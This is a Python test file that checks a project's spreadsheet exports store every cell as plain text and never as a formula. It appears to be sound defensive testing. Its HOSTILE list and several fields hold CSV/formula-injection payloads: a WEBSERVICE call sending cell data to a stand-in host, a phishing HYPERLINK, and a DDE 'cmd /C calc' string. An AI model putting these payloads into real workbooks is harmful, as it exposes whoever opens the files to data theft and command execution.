"""H4: every XLSX the project writes holds values only: no cell is a formula."""

from __future__ import annotations

import re
from pathlib import Path

import openpyxl

from assistant.catalogue import load_catalogue, load_zones
from assistant.export import dossier_to_xlsx, scorecard_to_xlsx
from assistant.reviews import ReviewStore
from assistant.scorecard import build_scorecard
from assistant.settings import Settings
from assistant.types import CriterionDraft, Dossier, EvidenceItem

REPO = Path(__file__).resolve().parents[2]
ZONE = "koh-kong-bay"
HOSTILE = ['=WEBSERVICE("https://x/?"&A2)', "=1+1", '=HYPERLINK("https://phish","verify")',
           "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1", "\n=cmd|' /C calc'!A0"]


def _drafts(catalogue) -> list[CriterionDraft]:
    out = []
    for n, crit in enumerate(list(catalogue)[:4]):
        hostile = HOSTILE[n % len(HOSTILE)]
        out.append(CriterionDraft(
            zone=ZONE, criterion_id=crit.id, category=crit.category, title=crit.title,
            requirement=crit.requirement, status="meets", confidence=0.7,
            rationale=HOSTILE[(n + 1) % len(HOSTILE)], justification=hostile + " [1]",
            evidence=(EvidenceItem(file="zones/x/=evil.pdf", page=1, quote=HOSTILE[2],
                                   score=0.8, value="=1+1"),),
            gaps=(HOSTILE[3], HOSTILE[5])))
    return out


def _formula_cells(path: Path) -> list[tuple[str, str, object]]:
    wb = openpyxl.load_workbook(path)
    return [(ws.title, cell.coordinate, cell.value) for ws in wb.worksheets
            for row in ws.iter_rows() for cell in row if cell.data_type == "f"]


def _values(path: Path) -> set[object]:
    wb = openpyxl.load_workbook(path)
    return {cell.value for ws in wb.worksheets for row in ws.iter_rows() for cell in row}


def test_dossier_and_scorecard_xlsx_have_no_formula(tmp_path: Path) -> None:
    catalogue = load_catalogue(REPO / "corpus" / "criteria.yaml")
    registry = load_zones(REPO / "corpus" / "zones.yaml")
    store = ReviewStore(tmp_path / "reviews.db")
    drafts = _drafts(catalogue)
    for d in drafts:
        store.save_draft(d, {"zones/x/=evil.pdf": "h"})
    store.review(ZONE, drafts[0].criterion_id, action="edit", reviewer="=1+1",
                 comment='=WEBSERVICE("https://x")', status="does_not_meet",
                 justification='=WEBSERVICE("https://x/?"&A2)')
    cells = {c.criterion_id: c for c in store.drafts(ZONE)}
    store.close()
    dossier = Dossier(zone=ZONE, zone_name="=Evil SEZ", framework=catalogue.framework.title,
                      generated_at="2024-07-01T10:00:00+00:00",
                      drafts=tuple(c.effective_draft() for c in cells.values()))
    path = dossier_to_xlsx(dossier, tmp_path / "d.xlsx", cells)
    assert _formula_cells(path) == []
    values = _values(path)
    # Written verbatim, as text: a quote stays the document's exact words.
    assert "=1+1" in values and HOSTILE[2] in values and "+SUM(A1:A9)" in values

    card = build_scorecard({ZONE: drafts}, catalogue, registry, Settings().category_weights)
    path = scorecard_to_xlsx(card, tmp_path / "s.xlsx")
    assert _formula_cells(path) == []
    assert HOSTILE[2] in _values(path)


def test_every_workbook_writer_uses_the_safe_appender() -> None:
    """A new XLSX export (a brief, a report) must go through ``xlsx_append`` too."""
    offenders = []
    for folder in ("assistant", "evals", "bench", "indexing"):
        for path in (REPO / folder).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if "Workbook(" not in text:
                continue
            if "xlsx_append" not in text or re.search(r"\b(ws|rk|sheet)\.append\((?!\[_clean)", text):
                offenders.append(str(path.relative_to(REPO)))
    assert offenders == []
